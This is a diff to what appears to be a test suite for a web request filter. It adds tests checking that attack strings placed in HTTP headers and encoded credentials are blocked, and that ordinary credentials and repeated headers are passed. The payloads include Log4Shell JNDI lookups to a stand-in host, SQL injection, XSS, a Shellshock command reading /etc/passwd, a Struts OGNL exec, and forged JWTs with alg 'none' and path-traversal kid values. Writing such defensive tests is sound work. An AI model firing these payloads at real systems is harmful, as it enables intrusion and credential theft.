@@ -328,8 +328,63 @@ describe('what servers read otherwise than a request says', () => {
     expect(verdict.decided, explain(verdict)).not.toBe('pass');
   });
 
+  const structured =
+    'accept accept-encoding accept-language authorization cache-control connection content-type date dnt forwarded from host ' +
+    'if-match if-modified-since if-none-match if-range if-unmodified-since keep-alive origin pragma priority range referer ' +
+    'sec-ch-ua sec-ch-ua-mobile sec-ch-ua-platform sec-fetch-dest sec-fetch-mode sec-fetch-site sec-fetch-user sec-gpc te ' +
+    'true-client-ip upgrade-insecure-requests user-agent via x-api-version x-forwarded-for x-forwarded-host x-real-ip';
+  const payloads = [
+    '${jndi:ldap://x.example/a}',
+    "1' union select password from users--",
+    '<script>alert(1)</script>',
+    '() { :; }; /bin/bash -c "cat /etc/passwd"',
+    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id').(@java.lang.Runtime@getRuntime().exec(#cmd))}",
+  ];
+  it.each(structured.split(' '))('no attack passes in %s, alone or behind what belongs there', (name) => {
+    for (const payload of payloads) {
+      for (const value of [payload, `${(chrome as Record<string, string>)[name] ?? 'x'}, ${payload}`]) {
+        const verdict = send('/', { [name]: value });
+        expect(verdict.decided, `${value}: ${explain(verdict)}`).not.toBe('pass');
+      }
+    }
+  });
+
+  const base64 = (text: string) => Buffer.from(text).toString('base64url');
+  const token = (head: object, claims: object) =>
+    `Bearer ${base64(JSON.stringify(head))}.${base64(JSON.stringify(claims))}.c2lnbmF0dXJl`;
+  it.each([
+    ['a name', `Basic ${btoa("admin' or '1'='1:x")}`],
+    ['a password', `basic ${btoa('admin:${jndi:ldap://x.example/a}')}`],
+    ['what names the key of a token', token({ alg: 'HS256', kid: "x' union select 'a'-- " }, { sub: '1' })],
+    ['the path of a key', token({ alg: 'HS256', kid: '../../../../etc/passwd' }, { sub: '1' })],
+    ['a claim', token({ alg: 'none' }, { sub: '${jndi:ldap://x.example/a}' })],
+  ])('no attack passes in %s that credentials encode', (_, authorization) => {
+    for (let i = 0; i < 2; i++) expect(send('/', { authorization }).decided).toBe('block');
+  });
+  it.each([
+    ['a name and a password', `Basic ${btoa("shop@example.org:pa$$word'9!")}`],
+    [
+      'claims',
+      token(
+        { alg: 'RS256', typ: 'JWT', kid: 'key-1/2024' },
+        {
+          iss: 'http://keycloak.internal:8080/realms/shop',
+          aud: ['account', 'https://api.example.com/'],
+          sub: 'auth0|5f7c8ec7c33c6c004bbafe82',
+          name: "Siobhán O'Brien (sales)",
+          scope: 'openid profile email',
+          exp: 1700000000,
+          realm_access: { roles: ['offline_access', 'default-roles-shop'] },
+        },
+      ),
+    ],
+  ])('ordinary credentials pass: %s', (_, authorization) => {
+    for (let i = 0; i < 2; i++) expect(explain(send('/', { authorization }))).toContain('pass');
+  });
+
   it.each([
     ['user-agent', 'sqlmap/1.7'],
+    ['referer', 'https://x.example/?q=1%27%20union%20select%201,2%20from%20users--'],
     ['user-agent', '${jndi:ldap://x.example/a}'],
     ['referer', "https://x.example/?q=1' union select 1,2 from users--"],
   ])('a second %s hides no first: %s', (name, value) => {
@@ -347,6 +402,27 @@ describe('what servers read otherwise than a request says', () => {
       expect(verdict.decided, explain(verdict)).not.toBe('pass');
     }
   });
+
+  it.each(['user-agent', 'referer', 'content-type', 'host', 'authorization'])(
+    'a second %s is told of, and does nothing alone',
+    (name) => {
+      const first = { 'user-agent': chrome['user-agent'], referer: 'https://a/', host: 'a' };
+      const value = (first as Record<string, string>)[name] ?? 'text/plain';
+      const list = Object.entries({ ...chrome, [name]: value }).map(([each, text]) => ({
+        name: each,
+        value: text,
+      }));
+      const headers = [...list, { name, value }];
+      const verdict = judge(
+        { method: 'GET', target: '/', host: 'a', scheme: 'http', remote_ip: '192.0.2.1', headers },
+        '',
+      );
+      expect([verdict.decided, explain(verdict)]).toEqual([
+        'pass',
+        expect.stringContaining('repeated_header'),
+      ]);
+    },
+  );
 
   it('a body that no header tells of is waited for', () => {
     const head = { method: 'POST', target: '/', host: 'a', scheme: 'http', remote_ip: '192.0.2.1' } as const;
